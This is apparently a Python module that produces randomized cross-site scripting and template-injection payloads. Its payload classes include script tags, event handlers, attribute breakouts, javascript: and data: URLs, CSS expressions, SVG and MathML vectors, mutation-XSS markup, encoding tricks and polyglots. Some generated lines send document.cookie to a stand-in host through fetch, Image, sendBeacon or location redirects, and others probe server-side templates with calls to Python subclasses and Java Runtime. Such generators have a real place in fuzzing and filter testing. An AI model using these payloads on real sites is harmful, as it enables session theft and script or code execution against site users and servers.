"""Writes scripts as the grammars of browsers and templates allow: each draw is a form that no table holds.

A class is one way to get script into a page. What runs is drawn first, then what it stands in, then what each reader
takes for nothing: white space, case, quotes, entities, escapes. The same seed writes the same value.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from random import Random
from urllib.parse import quote

CALLED = ["alert", "confirm", "prompt", "eval", "print", "open", "fetch"]
_EVENTS = "load error focus click mouseover toggle begin animationstart pageshow input wheel pointerrawupdate beforetoggle scrollsnapchange webkitfullscreenchange contentvisibilityautostatechange"
EVENTS = _EVENTS.split()
_TAGS = "img svg video audio body details input select textarea button marquee div p a span iframe object style x xss custom-element math table form keygen embed isindex"
TAGS = _TAGS.split()
HOSTS = ["//x.example", "//x.example/a.js", "https://x.example/a", "http:x.example", "//0x7f000001/"]
WORDS = ["kim", "red", "12", "note", "a1", "city"]


def _one(draw: Random, *choices: str) -> str:
    return draw.choice(choices)


def _case(draw: Random, text: str) -> str:
    return (
        "".join(letter.upper() if draw.random() < 0.4 else letter for letter in text) if draw.random() < 0.5 else text
    )


def _argument(draw: Random) -> str:
    return _one(draw, "1", "document.domain", "'x'", "`x`", "/x/", "document.cookie", "origin", "name")


def _split(draw: Random, name: str) -> str:
    cut = draw.randrange(1, len(name))
    return f"'{name[:cut]}'+'{name[cut:]}'"


def runs(draw: Random) -> str:
    """Something that does harm as soon as it is JavaScript."""
    name, argument, host = draw.choice(CALLED[:4]), _argument(draw), draw.choice(HOSTS)
    page = _one(draw, "window", "self", "top", "globalThis", "parent", "frames")
    return _one(
        draw,
        f"{name}({argument})",
        f"{name}`1`",
        f"{name}  ({argument})",
        f"({name})({argument})",
        f"{name}?.({argument})",
        f"{name}.call(null,{argument})",
        f"{page}[{_split(draw, name)}]({argument})",
        f"{page}['{name}']({argument})",
        f"{page}.{name}({argument})",
        f"[1].find({name})",
        f"[{argument}].map({name})",
        f"setTimeout('{name}(1)')",
        f"setInterval(`{name}(1)`,9)",
        f"[].constructor.constructor('{name}(1)')()",
        f"Function('{name}(1)')()",
        f"new Function`{name}(1)`",
        f"import('{host}')",
        f"location='javascript:{name}(1)'",
        f"document.location='{host}?'+document.cookie",
        "document.write('<b>')",
        f"document['write']('{host}')",
        f"fetch('{host}?'+document.cookie)",
        f"new Image().src='{host}?'+document.cookie",
        f"eval(atob('{base64.b64encode(name.encode()).decode()}'))",
        "eval(String.fromCharCode(97,108,101,114,116))",
        f"onerror={name};throw 1",
        f"throw onerror={name},1",
        f"Reflect.apply({name},null,[1])",
        f"\\u{ord(name[0]):04x}{name[1:]}(1)",
        f"\\u{{{ord(name[0]):x}}}{name[1:]}(1)",
        f"with(document)write('{host}')",
        "document.body.innerHTML='x'",
        f"navigator.sendBeacon('{host}',document.cookie)",
        f"localStorage.getItem('{name}')",
    )


def _gap(draw: Random) -> str:
    return _one(draw, " ", "/", "\t", "\n", "  ", "\x0c", " / ", "\r\n")


def _valued(draw: Random, value: str) -> str:
    """A value of an attribute: in double quotes, in single ones, or bare with what would end it written as entities."""
    form = draw.randrange(3)
    if form == 0:
        return '"' + value.replace('"', "&quot;") + '"'
    if form == 1:
        return "'" + value.replace("'", "&#39;") + "'"
    return "".join(f"&#{ord(sign)};" if sign in " '\"`=<>" else sign for sign in value)


def _handler(draw: Random) -> str:
    equals = _one(draw, "=", " =", "= ", "\n=\n")
    return _case(draw, "on" + draw.choice(EVENTS)) + equals + _valued(draw, runs(draw))


def script_tag(draw: Random) -> str:
    name = _case(draw, "script")
    junk = _one(
        draw, "", f"{_gap(draw)}x", f"{_gap(draw)}type=module", f"{_gap(draw)}x='>'", f"{_gap(draw)}async defer"
    )
    end = _one(draw, f"</{name}>", f"</{name} >", f"</{name}\n>", f"</{name} x", "", "<!--")
    if draw.random() < 0.4:
        return f"<{name}{_gap(draw)}src{_one(draw, '=', ' = ')}{_valued(draw, draw.choice(HOSTS))}{junk}{_one(draw, '>', '', ' ')}{end}"
    return f"<{name}{junk}>{runs(draw)}{end}"


def event_handler(draw: Random) -> str:
    before = _one(draw, "", "x=y ", "style=color:red ", "id=x tabindex=1 ", "src=x ", "autofocus ")
    return (
        f"<{_case(draw, draw.choice(TAGS))}{_gap(draw)}{before}{_handler(draw)}{_one(draw, '>', '', ' x=', '//', '/>')}"
    )


def attribute_breakout(draw: Random) -> str:
    quote_ = _one(draw, '"', "'")
    inner = _one(
        draw,
        f"{_gap(draw)}{_handler(draw)}",
        f"{_gap(draw)}autofocus {_handler(draw)}",
        f">{event_handler(draw)}",
        f" style={quote_}x:expression({runs(draw)})",
        f"/>{script_tag(draw)}",
    )
    return f"{draw.choice(WORDS)}{quote_}{inner}{_one(draw, '', f' x={quote_}', '//', '<!--')}"


def _entity(draw: Random, sign: str) -> str:
    number = ord(sign)
    end = ";" if draw.random() < 0.7 else ""
    return _one(
        draw,
        f"&#{number:0{draw.randrange(1, 8)}d}{end}",
        f"&#x{number:0{draw.randrange(1, 6)}x}{end}",
        f"&#X{number:X};",
    )


def scheme(draw: Random) -> str:
    """`javascript:` as the parser of URLs reads it: white space in front and within, any case, entities."""
    text = "".join(
        sign if draw.random() < 0.85 else _one(draw, "\t", "\n", "\r", "&Tab;", "&NewLine;", "&#9;", "&#x0A;") + sign
        for sign in _case(draw, "javascript")
    )
    text = (
        "".join(_entity(draw, sign) if sign.isalpha() and draw.random() < 0.15 else sign for sign in text)
        if "&" not in text
        else text
    )
    colon = _one(draw, ":", ":", "&colon;", "&#58;", "&#x3a;")
    front = _one(draw, "", "", " ", "\x01", "\t", "&#1;", "&#32;")
    return front + text + colon + _one(draw, "", "//%0a", "//\n", "/**/", "void(0);")


def url(draw: Random) -> str:
    address = _one(
        draw,
        scheme(draw) + runs(draw),
        _case(draw, "vbscript") + ":msgbox(1)",
        f"data:text/html,<script>{runs(draw)}</script>",
        f"data:text/html;base64,{base64.b64encode(runs(draw).encode()).decode()}",
        f"data:image/svg+xml,<svg onload={runs(draw)}>",
        f"data:application/xhtml+xml;charset=utf-8,{quote(runs(draw))}",
    )
    place = _one(
        draw,
        "<a{}href={}>x",
        "<iframe{}src={}>",
        "<form{}action={}><input type=submit>",
        "<button{}formaction={}>x",
        "<object{}data={}>",
        "<embed{}src={}>",
        "<svg><a{}xlink:href={}><text>x",
        "<math{}href={}>x",
        "<area{}href={}>",
        "<base{}href={}>",
        "{}{}",
    )
    if place == "{}{}":
        return address
    return place.format(
        _gap(draw), _valued(draw, address).replace(" ", "&#32;") if "<" in address else _valued(draw, address)
    )


def style(draw: Random) -> str:
    call = runs(draw)
    rule = _one(
        draw,
        f"width:expression({call})",
        f"x:ex/**/pression({call})",
        f"xss:expr/*x*/ession({call})",
        f"background:url(javascript:{call})",
        f"background-image:url('javascript:{call}')",
        "-moz-binding:url(//x.example/a.xml#b)",
        "behavior:url(#default#time2)",
        "@import'//x.example/a.css';",
        "@import url(//x.example/a.css);",
        "list-style-image:url(javascript:x)",
        "background:url(//x.example/?leak)",
    )
    return _one(
        draw,
        f"<style>{rule}</style>",
        f"<div{_gap(draw)}style={_valued(draw, rule)}>",
        f"<p style={_valued(draw, rule)}>x",
        f"<link rel=stylesheet href={_valued(draw, draw.choice(HOSTS))}>",
        f'"{_gap(draw)}style="{rule}',
        f"<style type=text/css>*{{{rule}}}",
    )


def foreign(draw: Random) -> str:
    call, host = runs(draw), draw.choice(HOSTS)
    return _one(
        draw,
        f"<svg><animate{_gap(draw)}onbegin={_valued(draw, call)} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to={_valued(draw, 'javascript:' + call)} />",
        f"<svg><animate attributeName=href values={_valued(draw, 'javascript:' + call)} />",
        f"<svg><use href={_valued(draw, 'data:image/svg+xml,<svg id=x>')} />",
        f"<svg><script>{call}</script>",
        f"<svg><script href={host} />",
        f"<svg><image href=x{_gap(draw)}{_handler(draw)}>",
        f"<svg><foreignObject><iframe{_gap(draw)}{_handler(draw)}>",
        f"<svg:svg{_gap(draw)}{_handler(draw)}>",
        f"<math><maction actiontype=statusline xlink:href={_valued(draw, 'javascript:' + call)}>x",
        f"<math><annotation-xml encoding=text/html><img src=x{_gap(draw)}{_handler(draw)}>",
        f"<svg><handler type=text/javascript ev:event=load>{call}</handler>",
        f"<svg><style>@import'{host}';</style>",
    )


def loader(draw: Random) -> str:
    host = draw.choice(HOSTS)
    return (
        _case(
            draw,
            _one(
                draw,
                "<base",
                "<link rel=import",
                "<embed",
                "<object",
                "<applet",
                "<iframe",
                "<frame",
                "<portal",
                "<meta http-equiv=refresh",
                "<meta http-equiv=set-cookie",
                "<xml",
                "<?import",
                "<bgsound",
                "<layer",
                "<fencedframe",
                "<template",
                "<frameset",
            ),
        )
        + _gap(draw)
        + _one(draw, "src", "href", "data", "code", "content", "srcdoc", "codebase", "classid", "archive")
        + _one(draw, "=", " = ")
        + _valued(draw, host)
        + _one(draw, ">", "/>", "")
    )


def template(draw: Random) -> str:
    call = f"{draw.choice(CALLED)}(1)"
    first, second = draw.randrange(2, 99), draw.randrange(2, 99)
    inner = _one(
        draw,
        f"constructor.constructor('{call}')()",
        f"$on.constructor('{call}')()",
        f"$eval.constructor('{call}')()",
        f"'a'.constructor.prototype.charAt=[].join;$eval('x={call}')",
        f"{first}*{second}",
        f"{first} + {second}",
        "''.__class__.__mro__[1].__subclasses__()",
        "config.items()",
        "self.__init__.__globals__",
        f"[].pop.constructor('{call}')()",
        f"toString().constructor.fromCharCode(97)|orderBy:'{call}'",
        f"x=$event.view.{call}",
        "request.application",
        f"_c.constructor('{call}')()",
    )
    return _one(
        draw,
        "{{" + inner + "}}",
        "{{ " + inner + " }}",
        "${" + f"{first}*{second}" + "}",
        "#{" + f"{first}*{second}" + "}",
        "<%= " + f"{first}*{second}" + " %>",
        "{% for c in [1] %}{{" + inner + "}}{% endfor %}",
        "{{-" + inner + "-}}",
        "[[${" + f"{first}*{second}" + "}]]",
        f'<div ng-app ng-init="{inner}">',
        f'<p v-html="{inner}">',
        f'<x v-on:click="{inner}">',
        f'<x @click="{inner}">',
        f'<x x-data x-init="{inner}">',
        "${T(java.lang.Runtime).getRuntime()}",
        "*{T(java.lang.System).getenv()}",
    )


def _utf7(text: str) -> str:
    packed = base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=")
    return f"+{packed}-"


def encoded(draw: Random) -> str:
    plain = _one(
        draw,
        f"<script>{runs(draw)}</script>",
        f"<img src=x onerror={draw.choice(CALLED)}(1)>",
        f"<svg onload={draw.choice(CALLED)}(1)>",
    )
    return _one(
        draw,
        "".join(_utf7(sign) if sign in "<>\"'" else sign for sign in plain),
        "".join(chr(ord(sign) | 0x80) if sign in "<>\"'" else sign for sign in plain),
        quote("".join(sign if sign not in "<>" else "\0" for sign in plain)).replace(
            "%00", _one(draw, "%C0%BC", "%E0%80%BC")
        ),
        "".join(chr(ord(sign) + 0xFEE0) if sign in "<>()'\"=" else sign for sign in plain),
        "".join(_entity(draw, sign) if not sign.isalnum() else sign for sign in plain),
        quote(quote(plain, safe=""), safe=""),
        "".join(f"%u{ord(sign):04x}" if not sign.isalnum() else sign for sign in plain),
        "".join(f"\\u{ord(sign):04x}" if not sign.isalnum() else sign for sign in plain),
        "".join(f"\\x{ord(sign):02x}" if not sign.isalnum() else sign for sign in plain),
        "".join(f"\\{ord(sign):o}" if sign in "<>" else sign for sign in plain),
        plain.replace("<", "&lt;").replace(">", "&gt;"),
        plain.replace("<", "&LT").replace("(", "&lpar;").replace(")", "&rpar;"),
        plain.replace("<", "%2500<"),
        plain.replace("<", "＜").replace(">", "＞"),
    )


def in_string(draw: Random) -> str:
    mark = _one(draw, "'", '"')
    call = runs(draw).replace("'", "`") if mark == "'" else runs(draw)
    return _one(
        draw,
        f"{mark};{call}//",
        f"{mark}-{call}-{mark}",
        f"\\{mark};{call}//",
        f"{mark}+{call}+{mark}",
        f"</script><script>{call}</script>",
        f"{mark}}};{call};{{{mark}",
        f"{mark});{call};//",
        f"{mark}]);{call};//",
        f"{mark}*{call}*{mark}",
        f"{mark}||{call}||{mark}",
        f"{mark}?{call}:{mark}",
        f"{mark},{call},{mark}",
        f"{mark};{call}<!--",
        f"{mark}\n{call}//",
        "${" + call + "}",
        f"{mark}^{call}^{mark}",
        f"{mark} in {call} in {mark}",
    )


_FALSE, _TRUE, _UNDEFINED = "![]", "!![]", "[][[]]"


def _number(value: int) -> str:
    return "+[]" if value == 0 else "+".join(["!+[]"] * value) if value > 1 else "+!+[]"


def _letter(letter: str) -> str:
    for word, source in (("false", _FALSE), ("true", _TRUE), ("undefined", _UNDEFINED)):
        if letter in word:
            return f"({source}+[])[{_number(word.index(letter))}]"
    return f"([]+{{}})[{_number('[object Object]'.index(letter))}]"


def no_letters(draw: Random) -> str:
    """A word put together from the names of values, out of `[]()!+{}` alone."""
    word = _one(draw, "find", "fill", "alert", "sort", "entries", "test", "eval"[:0] + "let", "filter"[:0] + "flat")
    text = "+".join(_letter(letter) for letter in word if letter in "falsetrundi[object O]")
    return _one(draw, f"[][{text}]", f"({text})", f"[][{text}][({text})]()", f"{text}+[]", f"x={text};")


def polyglot(draw: Random) -> str:
    parts = [
        f"{scheme(draw)}/*",
        "--></title></style></textarea>",
        "'\"`>",
        f"/*\\'/*\"/**/({runs(draw)})//",
        "]]>",
        "%0d%0a",
        "</script>",
        _handler(draw),
        event_handler(draw),
        "\"/*/'/*`/*",
    ]
    draw.shuffle(parts)
    return "".join(parts[: draw.randrange(3, len(parts))]) + _one(
        draw, event_handler(draw), script_tag(draw), f"*/{runs(draw)}//"
    )


def mutation(draw: Random) -> str:
    inner = f"<img src=x {_handler(draw)}>"
    title = _valued(draw, inner) if draw.random() < 0 else '"' + inner.replace('"', "'") + '"'
    return _one(
        draw,
        f"<noscript><p title={title[:1]}</noscript>{inner}{title[-1:]}>",
        f'<svg></p><style><a id="</style>{inner}">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;{inner[1:]}">',
        f"<form><math><mtext></form><form><mglyph><style></math>{inner}",
        f"<listing>&lt;{inner[1:]}</listing>",
        f"<svg><title><![CDATA[</title>]]>{inner}",
        f"<textarea></textarea/>{inner}",
        f'<xmp><p title="</xmp>{inner}">',
        f"<select><noembed></select>{inner}",
        f"<option><style></option></select><b>{inner}</style></option>",
    )


def declaration(draw: Random) -> str:
    call, host = runs(draw), draw.choice(HOSTS)
    return _one(
        draw,
        f"--><script>{call}</script>",
        f"--!>{event_handler(draw)}",
        f"]]>{script_tag(draw)}",
        f"<![CDATA[<]]>script<![CDATA[>]]>{call}",
        f'<?xml-stylesheet type="text/css" href="{host}"?>',
        f"<!ENTITY x SYSTEM '{host}'>",
        f'<!DOCTYPE x [<!ENTITY % y SYSTEM "{host}">%y;]>',
        f"<!--[if gte IE 4]><script>{call}</script><![endif]-->",
        '<!--#include virtual="/x" -->',
        f"<?xml version=\"1.0\"?><x xmlns:s='http://www.w3.org/1999/xhtml'><s:script>{call}</s:script>",
        f"<!-- -- -->{event_handler(draw)}",
    )


def plain_markup(draw: Random) -> str:
    host = draw.choice(HOSTS)
    return _one(
        draw,
        f"<form{_gap(draw)}action={_valued(draw, host)}>",
        f"<a{_gap(draw)}href={_valued(draw, host)}>log in again</a>",
        f"<img{_gap(draw)}src={_valued(draw, host)}>",
        "<h1>moved</h1>",
        f"<input{_gap(draw)}name=password type=password>",
        f"<video{_gap(draw)}poster={_valued(draw, host)}>",
        "<marquee>x</marquee>",
        f"<table background={_valued(draw, host)}>",
        "<plaintext>",
        "<textarea>",
        f"<img src='{host}?",
        "<dialog open>x</dialog>",
        "<iframe></iframe>",
        f"<source{_gap(draw)}src={_valued(draw, host)}>",
    )


def member_assigned(draw: Random) -> str:
    mark = _one(draw, "'", '"')
    target = _one(
        draw,
        "document.title",
        "a.b",
        "window.name",
        "this.x",
        "location",
        "self['a']",
        "x.innerHTML",
        "top.location.href",
        "document.x.y",
        "a[b].c",
    )
    return f"{draw.choice(WORDS)}{mark}{_one(draw, ';', ');', '];', '+', '-', '};', ' in ', '*')}{target}{_one(draw, '=', ' = ')}{_one(draw, '1', mark + 'x' + mark, '`x`', 'name')}"


def no_brackets(draw: Random) -> str:
    """Calls that need no round bracket: templates, hooks of conversion, handlers that are thrown to."""
    name = draw.choice(CALLED[:4])
    return _one(
        draw,
        f"{name}`{draw.choice(WORDS)}`",
        f"[1].find.call`${{{name}}}1`",
        f"[].map.call`${{{name}}}x`",
        f"Reflect.apply.call`${{{name}}}${{window}}${{[1]}}`",
        f"Function`x${{'{name}'}}`",
        f"onerror={name};throw 1",
        f"{{onerror={name}}}throw 1",
        f"throw/a/,onerror={name}",
        f"window.onerror={name};throw/x/",
        f"valueOf={name};window+1",
        f"toString={name};window+''",
        f"setTimeout`{name}\\x281\\x29`",
        f"location=`javascript:{name}\\x281\\x29`",
        f"[1].sort.call`${{{name}}}1`",
        f"new Function`{name}\\`1\\``",
        f"x={{toString:{name}}};x+''",
        f"[]['constructor']['constructor']`{name}\\x281\\x29`",
        f"''.replace.call`1${{/./}}${{{name}}}`",
    )


CLASSES: tuple[Callable[[Random], str], ...] = (
    script_tag, event_handler, attribute_breakout, url, style, foreign, loader, template, encoded, in_string,
    no_letters, polyglot, mutation, declaration, plain_markup, member_assigned, no_brackets, runs,
)  # fmt: skip
